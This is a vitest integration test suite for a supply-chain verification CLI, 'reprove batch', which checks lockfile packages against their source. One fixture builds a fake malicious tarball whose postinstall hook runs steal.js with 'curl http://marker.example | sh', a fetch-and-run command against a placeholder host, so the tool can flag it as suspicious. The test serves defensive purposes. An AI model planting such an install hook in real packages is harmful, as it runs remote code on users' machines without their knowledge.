import { createHash } from 'node:crypto';
import { mkdir, rm, writeFile } from 'node:fs/promises';
import { createServer, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { setTimeout as sleep } from 'node:timers/promises';
import { execa } from 'execa';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { BatchResult } from '../../src/batch/conclude.js';
import { type CliWorld, cliWorld } from '../support/cli.js';
import { type GitRepository, gitRepository } from '../support/git-repository.js';
import { registry } from '../support/registry.js';
import { npmTarball } from '../support/tarball.js';

const address = 'https://git.example/team/plain';
const filesOf = (version: string, code = 'module.exports = () => 42;\n') => ({
  'package.json': `${JSON.stringify({ name: 'plain', version, main: 'index.js', repository: `${address}.git` }, null, 2)}\n`,
  'index.js': code,
});
const honest = ['1.0.0', '1.0.1', '1.0.2', '1.0.3'];
const tarballs = new Map(honest.map((version) => [version, npmTarball(filesOf(version))]));
const stolen = npmTarball({
  ...filesOf('2.0.0'),
  'package.json': filesOf('2.0.0')['package.json'].replace(
    '"main"',
    '"scripts": { "postinstall": "node steal.js" },\n  "main"',
  ),
  'steal.js': "require('child_process').exec('curl http://marker.example | sh');\n",
});
const differing = npmTarball(filesOf('3.0.0', 'module.exports = () => 43;\n'));
const pin = (tarball: Buffer) => `sha512-${createHash('sha512').update(tarball).digest('base64')}`;

/** Zeros, for a disk to be filled with. */
function* endless() {
  for (;;) yield Buffer.alloc(2 ** 22);
}

describe('reprove batch', { timeout: 240_000 }, () => {
  let repository: GitRepository;
  let local: Awaited<ReturnType<typeof registry>>;
  let world: CliWorld;

  beforeAll(async () => {
    repository = await gitRepository();
    for (const version of [...honest, '2.0.0', '3.0.0']) {
      await repository.commit(filesOf(version));
      await repository.tag(`v${version}`);
    }
    local = await registry({
      packages: [
        {
          name: 'plain',
          versions: [
            ...honest.map((version) => ({ version, tarball: tarballs.get(version)! })),
            { version: '2.0.0', tarball: stolen },
            { version: '3.0.0', tarball: differing },
          ],
        },
      ],
    });
    world = await cliWorld(local.env);
    await world.configure({ sourceMirrors: [{ from: address, to: repository.path }] });
  });
  afterAll(async () => {
    await world.remove();
    await local.close();
    await repository.remove();
  });

  /** A lockfile with these entries below node_modules, each by its place. */
  const lock = (entries: Record<string, object>, file = 'package-lock.json') =>
    writeFile(
      join(world.folder, file),
      JSON.stringify({
        lockfileVersion: 3,
        packages: {
          '': { name: 'root' },
          ...Object.fromEntries(
            Object.entries(entries).map(([place, entry]) => [`node_modules/${place}`, entry]),
          ),
        },
      }),
    );
  const entry = (version: string, integrity = pin(tarballs.get(version)!)) => ({
    name: 'plain',
    version,
    integrity,
  });
  const batch = async (state: string, ...args: string[]) => {
    const place = join(world.folder, state);
    const { exitCode, stdout, stderr } = await world.run([
      ...['batch', 'package-lock.json', '--json', '--state', place, '--no-rebuild'],
      ...args,
    ]);
    if (!stdout.startsWith('{')) throw new Error(`${exitCode}: ${stderr}`);
    return { exitCode, stderr, result: JSON.parse(stdout) as BatchResult };
  };

  it('verifies what a lockfile installs once, and names what is no release', async () => {
    await lock({
      a: entry('1.0.0'),
      b: entry('1.0.1'),
      'a/node_modules/again': entry('1.0.1'),
      forked: { version: '1.0.0', resolved: 'git+https://git.example/team/forked.git#0123' },
    });
    const first = await batch('once');
    expect(first).toMatchObject({
      exitCode: 0,
      result: { verdicts: { reproduced: 2 }, counts: { verified: 2, reused: 0, notVerified: 1, failed: 0 } },
    });
    const asked = local.requests.length;
    const second = await batch('once');
    expect(second).toMatchObject({
      exitCode: 0,
      result: { since: first.result.run, changes: [], counts: { verified: 2, reused: 2 } },
    });
    expect(local.requests.length).toBe(asked);
  });

  it('fails where the registry serves another tarball than the lockfile pins, every night', async () => {
    await lock({ a: entry('1.0.0'), b: entry('1.0.1', pin(Buffer.from('another'))) });
    for (const _ of ['one night', 'the next']) {
      const { exitCode, result } = await batch('pinned');
      expect(exitCode).toBe(1);
      expect(result.failed).toMatchObject([{ name: 'plain', version: '1.0.1', code: 'E_OTHER_TARBALL' }]);
      expect(result.verdicts).toEqual({ reproduced: 1 });
      expect(result.newlyFailed).toBe(result.since === null ? 1 : 0);
    }
  });

  it('holds tarballs to the SHA-1 of old lockfiles too', async () => {
    const sha1 = (bytes: Buffer) => `sha1-${createHash('sha1').update(bytes).digest('base64')}`;
    await lock({ a: entry('1.0.0', sha1(tarballs.get('1.0.0')!)), b: entry('1.0.1', sha1(stolen)) });
    const { exitCode, result } = await batch('sha1');
    expect(exitCode).toBe(1);
    expect(result.failed).toMatchObject([{ version: '1.0.1', code: 'E_OTHER_TARBALL' }]);
  });

  it('fails for what is suspicious, and says what changed since the run before', async () => {
    await lock({ a: entry('1.0.0') });
    expect(await batch('changes')).toMatchObject({ exitCode: 0 });
    await lock({ a: entry('2.0.0', pin(stolen)) });
    const { exitCode, result } = await batch('changes');
    expect(exitCode).toBe(1);
    expect(result.verdicts).toEqual({ suspicious: 1 });
    expect(result.changes).toContainEqual(
      expect.objectContaining({
        kind: 'verdict',
        name: 'plain',
        before: '1.0.0',
        direction: 'worse',
        to: 'suspicious',
      }),
    );
  });

  it('can be adopted where not everything passes, and is strict on request', async () => {
    await lock({ a: entry('3.0.0', pin(differing)) });
    expect(await batch('strict')).toMatchObject({ exitCode: 0, result: { verdicts: { differs: 1 } } });
    expect(await batch('strict', '--strict')).toMatchObject({
      exitCode: 1,
      result: { counts: { reused: 1 } },
    });
  });

  it('holds a run that leaves something out against the last of its kind, not against one of everything', async () => {
    await lock({ a: entry('1.0.0'), b: entry('3.0.0', pin(differing)) });
    const whole = await batch('kinds');
    const only = await batch('kinds', '--include', 'plain@1.*');
    expect(only.result).toMatchObject({ since: whole.result.run, counts: { verified: 1 } });
    const again = await batch('kinds');
    expect(again.result).toMatchObject({ since: whole.result.run, changes: [] });
    expect((await batch('kinds', '--include', 'plain@1.*')).result).toMatchObject({
      since: only.result.run,
      changes: [],
    });
  });

  it.for(['before it begins', 'while it runs'])(
    'ends with 4 where the disk of the state folder is full %s, and goes on when it is not',
    async (when, context) => {
      const state = join(world.folder, 'full');
      await mkdir(state, { recursive: true });
      const mounted = await execa('mount', ['-t', 'tmpfs', '-o', 'size=120m', 'reprove-test', state], {
        reject: false,
      });
      if (mounted.exitCode !== 0) {
        const reason = 'NO SMALL DISK CAN BE MOUNTED HERE: the test of a batch on a full one did not run';
        console.warn(reason);
        return context.skip(reason);
      }
      const filler = join(state, 'filler');
      const fill = () => writeFile(filler, Readable.from(endless())).catch(() => undefined);
      try {
        await lock({ a: entry('1.0.0') });
        expect(await batch('full')).toMatchObject({ exitCode: 0 });
        await lock(Object.fromEntries(honest.map((version) => [`p${version}`, entry(version)])));
        if (when === 'before it begins') await fill();
        // A tarball that is not to be had at first makes for seconds in which the disk can be filled.
        if (when === 'while it runs')
          local.respondWith('/plain/-/plain-1.0.3.tgz', { status: 503, times: 1 });
        const child = world.start(
          ['batch', 'package-lock.json', '--state', state, '--no-rebuild', '--concurrency', '1'],
          {
            npm_config_fetch_retries: '0',
            REPROVE_CACHE: join(world.folder, `cache-${when.replaceAll(' ', '-')}`),
          },
        );
        let told = '';
        child.stderr?.on('data', (chunk: Buffer) => (told += chunk));
        while (when === 'while it runs' && !/^2\/4/m.test(told)) await sleep(10);
        if (when === 'while it runs') await fill();
        expect([(await child).exitCode, told]).toEqual([
          4,
          expect.stringMatching(/^error: .*(full|no space)/im),
        ]);
        await rm(filler);
        const { exitCode, result } = await batch('full');
        expect([exitCode, result]).toMatchObject([0, { verdicts: { reproduced: 4 }, counts: { failed: 0 } }]);
        expect(result.counts.reused).toBeGreaterThanOrEqual(when === 'while it runs' ? 2 : 1);
        expect(await world.run(['db', 'check', '--state', state])).toMatchObject({ exitCode: 0 });
      } finally {
        await execa('umount', ['-l', state]);
      }
    },
  );

  it('goes on without the release that can’t be had, and says so', async () => {
    await lock({ a: entry('1.0.0'), gone: { name: 'plain', version: '9.9.9', integrity: pin(stolen) } });
    const { exitCode, result } = await batch('gone');
    expect(exitCode).toBe(3);
    expect(result.failed).toMatchObject([{ version: '9.9.9' }]);
    expect(result.verdicts).toEqual({ reproduced: 1 });
  });

  it('takes over what a killed run has stored', async () => {
    await lock(Object.fromEntries(honest.map((version) => [`p${version}`, entry(version)])));
    const state = join(world.folder, 'killed');
    const child = world.start([
      ...['batch', 'package-lock.json', '--state', state, '--no-rebuild', '--concurrency', '1'],
    ]);
    let told = '';
    child.stderr?.on('data', (chunk: Buffer) => (told += chunk));
    while (!/^2\/4/m.test(told)) await sleep(20);
    child.kill('SIGKILL');
    await child.catch(() => undefined);
    const { exitCode, result } = await batch('killed');
    expect(exitCode).toBe(0);
    expect(result.verdicts).toEqual({ reproduced: 4 });
    expect(result.counts.reused).toBeGreaterThanOrEqual(2);
    await rm(state, { recursive: true });
  });

  it('takes specs, lists and package.json as the registry has them now', async () => {
    await writeFile(
      join(world.folder, 'package.json'),
      '{ "dependencies": { "plain": "~1.0.0", "nick": "npm:plain@1.0.1" } }',
    );
    await writeFile(join(world.folder, 'list.txt'), '# two\nplain@1.0.0\npkg:npm/plain@1.0.2\n');
    const run = async (...args: string[]) => {
      const { exitCode, stdout, stderr } = await world.run([
        ...['batch', '--json', '--no-rebuild', '--state', join(world.folder, 'inputs'), ...args],
      ]);
      if (stdout === '') throw new Error(stderr);
      return { ...(JSON.parse(stdout) as BatchResult), exitCode };
    };
    expect(await run('package.json', 'list.txt', 'plain@1.0.3')).toMatchObject({
      exitCode: 0,
      counts: { verified: 4, reused: 0 },
    });
    expect(await run('package.json', '--include', 'plain@1.0.3')).toMatchObject({
      counts: { verified: 1 },
      leftOut: { include: 1 },
    });
    expect(await run('list.txt', '--top', '1')).toMatchObject({
      counts: { verified: 1 },
      leftOut: { top: 1 },
    });
  });

  it('ends at once when it is interrupted, and the next goes on', async () => {
    await lock(Object.fromEntries(honest.map((version) => [`p${version}`, entry(version)])));
    const state = join(world.folder, 'interrupted');
    const child = world.start([
      ...['batch', 'package-lock.json', '--state', state, '--no-rebuild', '--concurrency', '1'],
    ]);
    let told = '';
    child.stderr?.on('data', (chunk: Buffer) => (told += chunk));
    while (!/^1\/4/m.test(told)) await sleep(20);
    child.kill('SIGINT');
    expect((await child).exitCode).toBe(130);
    expect(told).toMatch(/interrupted\n$/);
    const { exitCode, result } = await batch('interrupted');
    expect([exitCode, result.verdicts]).toEqual([0, { reproduced: 4 }]);
    expect(result.counts.reused).toBeGreaterThanOrEqual(1);
  });

  it('is one after the other where two are started at once, and each release is verified once', async () => {
    await lock(Object.fromEntries(honest.map((version) => [`p${version}`, entry(version)])));
    const both = await Promise.all([batch('two'), batch('two')]);
    expect(both.map(({ exitCode }) => exitCode)).toEqual([0, 0]);
    expect(both.map(({ result }) => result.verdicts)).toEqual([{ reproduced: 4 }, { reproduced: 4 }]);
    expect(both.map(({ result }) => result.counts.reused).sort()).toEqual([0, 4]);
    expect(
      both.filter(({ stderr }) => /^waiting for process \d+, which uses the database$/m.test(stderr)),
    ).toHaveLength(1);
  });

  it('tries again what the registry fails at, whatever way it fails', async () => {
    const flaky = await registry({
      packages: [
        { name: 'plain', versions: honest.map((version) => ({ version, tarball: tarballs.get(version)! })) },
      ],
    });
    // The first request for each tarball is answered in another way that is wrong.
    const ways: ((response: ServerResponse) => void)[] = [
      (response) => response.writeHead(500).end(),
      (response) => response.writeHead(429).end(),
      (response) =>
        response.writeHead(200, { 'content-length': 1_000 }).write('half', () => response.destroy()),
      (response) => response.writeHead(200).end(stolen),
    ];
    const faults = new Map(honest.map((version, at) => [`plain-${version}.tgz`, ways[at]!]));
    let silent = true;
    const proxy = createServer((request, response) => {
      const path = request.url!;
      const tarball = path.split('/').at(-1)!;
      // And the first request of all is not answered.
      if (silent) {
        silent = false;
        return;
      }
      const fault = faults.get(tarball);
      faults.delete(tarball);
      if (fault !== undefined) return fault(response);
      fetch(new URL(path, flaky.url)).then(
        async (answer) => {
          const bytes = Buffer.from(await answer.arrayBuffer());
          const text = tarball.endsWith('.tgz') ? bytes : bytes.toString().replaceAll(flaky.url, own);
          response.writeHead(answer.status).end(text);
        },
        () => response.destroy(),
      );
    });
    await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
    const own = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`;
    await lock(Object.fromEntries(honest.map((version) => [`p${version}`, entry(version)])));
    const { exitCode, stdout } = await world.run(
      ['batch', 'package-lock.json', '--json', '--no-rebuild', '--state', join(world.folder, 'flaky')],
      {
        npm_config_registry: `${own}/`,
        npm_config_fetch_retries: '0',
        npm_config_fetch_timeout: '2000',
        REPROVE_CACHE: join(world.folder, 'cache-flaky'),
      },
    );
    proxy.closeAllConnections();
    proxy.close();
    await flaky.close();
    expect([exitCode, JSON.parse(stdout)]).toMatchObject([0, { verdicts: { reproduced: 4 } }]);
    expect([faults.size, silent]).toEqual([0, false]);
  });

  it('tells whoever is configured, once and only on change', async () => {
    const got: string[] = [];
    const server = createServer((request, response) => {
      let body = '';
      request.on('data', (chunk: Buffer) => (body += chunk));
      request.on('end', () => {
        got.push(body);
        response.end();
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
    const mirrors = [{ from: address, to: repository.path }];
    await world.configure({ sourceMirrors: mirrors, notifications: [{ kind: 'webhook', url }] });
    await lock({ a: entry('1.0.0') });
    for (const _ of ['first', 'second']) expect(await batch('told')).toMatchObject({ exitCode: 0 });
    await lock({ a: entry('2.0.0', pin(stolen)) });
    await batch('told');
    await batch('told');
    expect(got.map((body) => JSON.parse(body) as object)).toMatchObject([
      {
        run: 3,
        since: 2,
        verdicts: { suspicious: 1 },
        changes: [{ kind: 'verdict', to: 'suspicious' }, { kind: 'phantoms' }],
      },
    ]);
    await lock({ a: entry('1.0.0') });
    await batch('told', '--no-notify');
    expect(got).toHaveLength(1);
    server.close();
    await lock({ a: entry('2.0.0', pin(stolen)) });
    const { exitCode, stderr } = await batch('told');
    expect(exitCode).toBe(1);
    expect(stderr).toMatch(/^the notification by webhook was not sent: no answer/m);
    await world.configure({ sourceMirrors: mirrors });
  });

  it('says in one line what is no input', async () => {
    const { exitCode, stderr } = await world.run(['batch', 'missing.json']);
    expect(exitCode).toBe(2);
    expect(stderr).toContain("error: missing.json can't be used: there is no such file (E_INPUT)");
  });
});
